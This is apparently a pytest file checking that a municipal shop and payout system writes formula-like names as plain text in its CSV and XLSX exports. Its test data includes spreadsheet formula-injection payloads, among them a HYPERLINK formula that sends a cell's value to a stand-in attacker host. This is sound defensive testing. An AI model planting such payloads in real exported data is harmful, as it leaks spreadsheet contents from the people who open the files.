"""Issue 17, item 5: a shop or ASN name that a spreadsheet would run as a formula is written as
text in every export (city dashboard CSV/XLSX, OPD compliance XLSX, the payout bank file)."""

import csv
import io

import openpyxl
import pytest

from peken.accounts.models import OPD
from peken.core.months import Month
from peken.core.spreadsheet import safe_cell
from peken.payouts.rules import BankTransfer, bank_file
from peken.reports.exports import Column, Table, csv_bytes, xlsx_bytes
from peken.web.opd.compliance import ComplianceRow
from peken.web.opd.export import compliance_workbook

NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _in_xlsx(text: str) -> str:
    return text.replace("\r", "\n")  # the file format keeps a carriage return as a newline


def _xlsx_texts(data: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return [cell.value for cell in cells]


@pytest.mark.parametrize("name", NAMES)
def test_safe_cell_turns_a_formula_into_text(name):
    assert safe_cell(name) == "'" + name
    assert safe_cell("Toko Bu Sri") == "Toko Bu Sri"
    assert safe_cell(-1) == -1  # numbers stay numbers


@pytest.mark.parametrize("name", NAMES)
def test_dashboard_table_in_csv_and_xlsx(name):
    table = Table(
        "toko-di-batas", "Toko", [Column("name", "Nama"), Column("n", "N", "count")], [[name, -3]]
    )
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig"))))
    assert rows[1] == ["'" + name, "-3"]
    texts = _xlsx_texts(xlsx_bytes(table, name))
    assert texts.count(_in_xlsx("'" + name)) == 2  # the heading and the cell
    assert _in_xlsx(name) not in texts and -3 in texts


@pytest.mark.parametrize("name", NAMES)
def test_opd_compliance_workbook(name):
    row = ComplianceRow(
        nip="199001012020121001",
        full_name=name,
        golongan="III/a",
        eselon="",
        required=500000,
        spent=0,
        shortfall=500000,
        status="unmet",
    )
    opd = OPD(code="DINKOPDAG", name=name)
    texts = _xlsx_texts(compliance_workbook(opd=opd, month=Month(2026, 11), rows=[row]))
    assert _in_xlsx("'" + name) in texts and _in_xlsx(name) not in texts


@pytest.mark.parametrize("name", NAMES)
def test_payout_bank_file(name):
    text = bank_file([BankTransfer("BCA", "1234567890", name, 1000, "PKN-PO1-M1")])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][2] == "'" + name
